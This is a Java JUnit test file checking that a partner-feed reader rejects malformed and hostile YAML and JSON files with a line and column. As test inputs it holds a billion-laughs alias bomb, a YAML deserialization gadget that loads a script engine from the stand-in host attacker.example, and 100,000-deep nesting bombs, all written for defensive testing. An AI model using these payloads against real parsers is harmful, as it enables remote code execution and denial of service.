package io.activationworker.feed;

import static io.activationworker.feed.FeedFixtures.AGREEMENT;
import static io.activationworker.feed.FeedFixtures.CATALOGUE;
import static io.activationworker.feed.FeedFixtures.HEADER;
import static io.activationworker.feed.FeedFixtures.VALID_YAML;
import static io.activationworker.feed.FeedFixtures.reader;
import static io.activationworker.feed.FeedFixtures.write;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Files that are unusable as a whole, hostile ones first: each is refused with a line and column. */
class FeedReaderWholeFileTest {

    @TempDir
    Path dir;

    @Test
    void alias_bomb_is_rejected_with_its_line() {
        String billionLaughs = """
                schema: 1
                partner: { id: northwind-partners, name: "Northwind Partners BV" }
                lol1: &lol1 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
                lol2: &lol2 [*lol1,*lol1,*lol1,*lol1,*lol1,*lol1,*lol1,*lol1,*lol1]
                lol3: &lol3 [*lol2,*lol2,*lol2,*lol2,*lol2,*lol2,*lol2,*lol2,*lol2]
                lol4: &lol4 [*lol3,*lol3,*lol3,*lol3,*lol3,*lol3,*lol3,*lol3,*lol3]
                """;

        FeedFileRejectedException e = rejected("bomb.yaml", billionLaughs);

        assertThat(e).hasMessage(dir.resolve("bomb.yaml") + ":3:7: anchors and aliases are not allowed in a feed");
        assertThat(e.getLine()).isEqualTo(3);
        assertThat(e.getColumn()).isEqualTo(7);
        assertThat(e.getReason()).isEqualTo("anchors and aliases are not allowed in a feed");
        assertThat(e.getFile()).isEqualTo(dir.resolve("bomb.yaml").toString());
    }

    @Test
    void alias_inside_an_agreement_is_rejected_with_its_line() {
        String feed = HEADER + AGREEMENT.replace("customer: {", "customer: &c {") + "  - number: V2000000\n    customer: *c\n";

        assertThat(rejected("alias.yaml", feed)).hasMessageEndingWith(":5:15: anchors and aliases are not allowed in a feed");
    }

    @Test
    void script_engine_tag_is_rejected_before_anything_is_built() {
        String feed = """
                schema: 1
                partner: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]
                """;

        FeedFileRejectedException e = rejected("tag.yaml", feed);

        assertThat(e.getLine()).isEqualTo(2);
        assertThat(e.getColumn()).isEqualTo(10);
        assertThat(e.getReason()).startsWith("tags are not allowed in a feed").contains("javax.script.ScriptEngineManager");
    }

    @Test
    void even_a_harmless_str_tag_or_a_local_tag_is_rejected() {
        assertThat(rejected("str.yaml", HEADER.replace("name: \"Northwind", "name: !!str \"Northwind")).getReason())
                .startsWith("tags are not allowed in a feed");
        assertThat(rejected("local.yaml", HEADER.replace("schema: 1", "schema: !foo 1"))).hasMessageContaining(":1:9: tags are not allowed");
    }

    @Test
    void duplicate_key_at_the_top_level_is_rejected() {
        assertThat(rejected("dup.yaml", HEADER + "schema: 1\n")).hasMessageEndingWith(":4:1: duplicate key 'schema'");
    }

    @Test
    void duplicate_key_inside_an_agreement_rejects_the_file_because_its_meaning_is_unclear() {
        String feed = HEADER + AGREEMENT.replace("    locale: nl\n", "    locale: nl\n    number: V7654321\n");

        assertThat(rejected("dup.yaml", feed)).hasMessageEndingWith(":8:5: duplicate key 'number'");
    }

    @Test
    void duplicate_key_in_json_is_rejected() {
        assertThat(rejected("dup.json", "{\"schema\": 1,\n \"schema\": 1}")).hasMessageEndingWith(":2:2: duplicate key 'schema'");
    }

    @Test
    void file_larger_than_the_limit_is_rejected_from_its_size() {
        FeedReader small = new FeedReader(CATALOGUE, 100);

        FeedFileRejectedException e = catchThrowableOfType(() -> small.read(write(dir, "big.yaml", VALID_YAML)),
                FeedFileRejectedException.class);

        assertThat(e.getReason()).isEqualTo("the file is " + VALID_YAML.length() + " bytes; the limit is 100 bytes (feed.max-bytes)");
        assertThat(e.getLine()).isEqualTo(1);
    }

    @Test
    void fifty_megabyte_file_is_refused_without_reading_it() throws IOException {
        Path big = dir.resolve("big.yaml");
        try (RandomAccessFile file = new RandomAccessFile(big.toFile(), "rw")) {
            file.setLength(50L * 1024 * 1024);
        }

        FeedFileRejectedException e = catchThrowableOfType(() -> reader().read(big), FeedFileRejectedException.class);

        assertThat(e).hasMessage(big + ":1:1: the file is 50.0 MB; the limit is 32.0 MB (feed.max-bytes)");
    }

    @Test
    void invalid_utf8_is_rejected_with_the_byte_and_its_line() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes("schema: 1\npartner: { id: p, name: \"Caf".getBytes(StandardCharsets.US_ASCII));
        bytes.write(0xC3);
        bytes.writeBytes("\" }\n".getBytes(StandardCharsets.US_ASCII));

        FeedFileRejectedException e = catchThrowableOfType(() -> reader().read(write(dir, "latin.yaml", bytes.toByteArray())),
                FeedFileRejectedException.class);

        assertThat(e).hasMessage(dir.resolve("latin.yaml") + ":2:29: invalid UTF-8 at byte 38");
    }

    @Test
    void invalid_utf8_far_into_a_large_file_names_the_right_line() {
        StringBuilder text = new StringBuilder("schema: 1\npartner: { id: p, name: P }\n");
        for (int i = 0; i < 5000; i++) {
            text.append("# a comment that pads the file past many decoder buffers\n");
        }
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes(text.toString().getBytes(StandardCharsets.UTF_8));
        bytes.writeBytes(new byte[] {'#', ' ', (byte) 0xFF, '\n'});

        FeedFileRejectedException e = catchThrowableOfType(() -> reader().read(write(dir, "late.yaml", bytes.toByteArray())),
                FeedFileRejectedException.class);

        assertThat(e.getLine()).isEqualTo(5003);
        assertThat(e.getColumn()).isEqualTo(3);
        assertThat(e.getReason()).isEqualTo("invalid UTF-8 at byte " + (text.length() + 2));
    }

    @Test
    void nul_byte_in_the_file_is_rejected_with_its_line() {
        assertThat(rejected("nul.yaml", "schema: 1\npartner: { id: p, name: P\0 }\n"))
                .hasMessageEndingWith(":2:26: control character U+0000 is not allowed in a feed");
    }

    @Test
    void json_array_nested_a_hundred_thousand_deep_is_rejected_without_a_stack_overflow() {
        String bomb = "[".repeat(100_000) + "]".repeat(100_000);

        assertThat(rejected("deep.json", bomb))
                .hasMessageEndingWith(":1:1: the top level must be a mapping with schema, partner and agreements");
    }

    @Test
    void nesting_deeper_than_sixteen_levels_is_rejected_where_it_happens() {
        String bomb = "{\"schema\":1,\"agreements\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}";

        FeedFileRejectedException e = rejected("deep.json", bomb);

        assertThat(e).hasMessageEndingWith(":1:41: nesting deeper than 16 levels");
    }

    @Test
    void deep_yaml_block_nesting_is_rejected() {
        StringBuilder feed = new StringBuilder("schema: 1\npartner:\n");
        for (int i = 0; i < 40; i++) {
            feed.append(" ".repeat(i + 1)).append("level").append(i).append(":\n");
        }
        feed.append(" ".repeat(41)).append("x\n");

        assertThat(rejected("deep.yaml", feed.toString())).hasMessageContaining("nesting deeper than 16 levels");
    }

    @Test
    void yaml_syntax_error_gives_the_parsers_line_and_column() {
        String broken = HEADER + "  - number: V1234567\n    customer: { tenant: fabrikam.example, name: \"Fabrikam NV\"\n    keys: []\n";

        FeedFileRejectedException e = rejected("broken.yaml", broken);

        assertThat(e.getLine()).isEqualTo(6);
        assertThat(e.getReason()).startsWith("not valid YAML: ").doesNotContain("\n");
    }

    @Test
    void json_syntax_error_gives_the_parsers_line_and_column() {
        String broken = """
                {
                  "schema": 1,
                  "partner": {"id": "p", "name": "P"},
                  "agreements": [
                }
                """;

        assertThat(rejected("broken.json", broken)).hasMessageEndingWith(":5:1: not valid JSON: expected the node content, but found '}'");
    }

    @Test
    void top_level_list_is_rejected() {
        assertThat(rejected("list.yaml", "- schema: 1\n")).hasMessageEndingWith(":1:1: the top level must be a mapping with schema, partner and agreements");
    }

    @Test
    void empty_file_is_rejected() {
        assertThat(rejected("empty.yaml", "# nothing yet\n")).hasMessageEndingWith(":2:1: the file is empty; a feed starts with 'schema: 1'");
    }

    @Test
    void second_document_is_rejected() {
        assertThat(rejected("two.yaml", HEADER + "---\nschema: 1\n")).hasMessageEndingWith(":4:1: a feed file holds one document; a second one starts here");
    }

    @Test
    void missing_schema_is_rejected() {
        assertThat(rejected("noschema.yaml", HEADER.replace("schema: 1\n", "")))
                .hasMessageEndingWith(":1:1: missing 'schema: 1' at the top of the file");
    }

    @Test
    void schema_other_than_one_is_rejected() {
        assertThat(rejected("schema2.yaml", HEADER.replace("schema: 1", "schema: 2")))
                .hasMessageEndingWith(":1:9: schema must be 1 (the only feed schema version this reader knows)");
        assertThat(rejected("schema-text.yaml", HEADER.replace("schema: 1", "schema: \"1\"")).getReason())
                .startsWith("schema must be 1");
    }

    @Test
    void missing_partner_is_rejected() {
        assertThat(rejected("nopartner.yaml", "schema: 1\nagreements: []\n")).hasMessageEndingWith(":1:1: missing 'partner' (with id and name)");
    }

    @Test
    void partner_id_that_is_not_a_slug_is_rejected() {
        assertThat(rejected("id.yaml", HEADER.replace("id: northwind-partners", "id: Northwind Partners")))
                .hasMessageEndingWith(":2:10: partner.id 'Northwind Partners' must be 1 to 64 lower-case letters, digits or dashes, e.g. northwind-partners");
    }

    @Test
    void partner_without_id_or_name_is_rejected() {
        assertThat(rejected("noid.yaml", HEADER.replace("id: northwind-partners, ", "")))
                .hasMessageEndingWith(":2:10: missing field 'partner.id'");
        assertThat(rejected("noname.yaml", HEADER.replace(", name: \"Northwind Partners BV\"", "")))
                .hasMessageEndingWith(":2:10: missing field 'partner.name'");
    }

    @Test
    void partner_name_with_a_line_break_is_rejected() {
        assertThat(rejected("name.yaml", HEADER.replace("\"Northwind Partners BV\"", "\"Northwind\\nPartners\"")))
                .hasMessageEndingWith(":2:10: field partner.name contains a line break");
    }

    @Test
    void unknown_top_level_field_is_rejected_so_a_typo_never_drops_every_agreement() {
        assertThat(rejected("typo.yaml", HEADER.replace("agreements:", "agreement:")))
                .hasMessageEndingWith(":3:1: unknown top-level field 'agreement' (expected schema, partner, agreements, retailKeys)");
    }

    @Test
    void agreements_that_are_not_a_list_are_rejected() {
        assertThat(rejected("notalist.yaml", HEADER.replace("agreements:", "agreements: V1234567")))
                .hasMessageEndingWith(":3:13: 'agreements' must be a list, not text");
    }

    @Test
    void missing_file_cannot_be_read() {
        FeedFileRejectedException e = catchThrowableOfType(() -> reader().read(dir.resolve("gone.yaml")),
                FeedFileRejectedException.class);

        assertThat(e).hasMessage(dir.resolve("gone.yaml") + ":1:1: cannot be read: no such file");
    }

    @Test
    void other_file_types_are_not_feeds() {
        assertThat(rejected("notes.txt", VALID_YAML)).hasMessageEndingWith(":1:1: not a feed file: the name must end in .yaml, .yml or .json");
    }

    private FeedFileRejectedException rejected(String name, String content) {
        Path file = write(dir, name, content);
        return catchThrowableOfType(() -> reader().read(file), FeedFileRejectedException.class);
    }
}
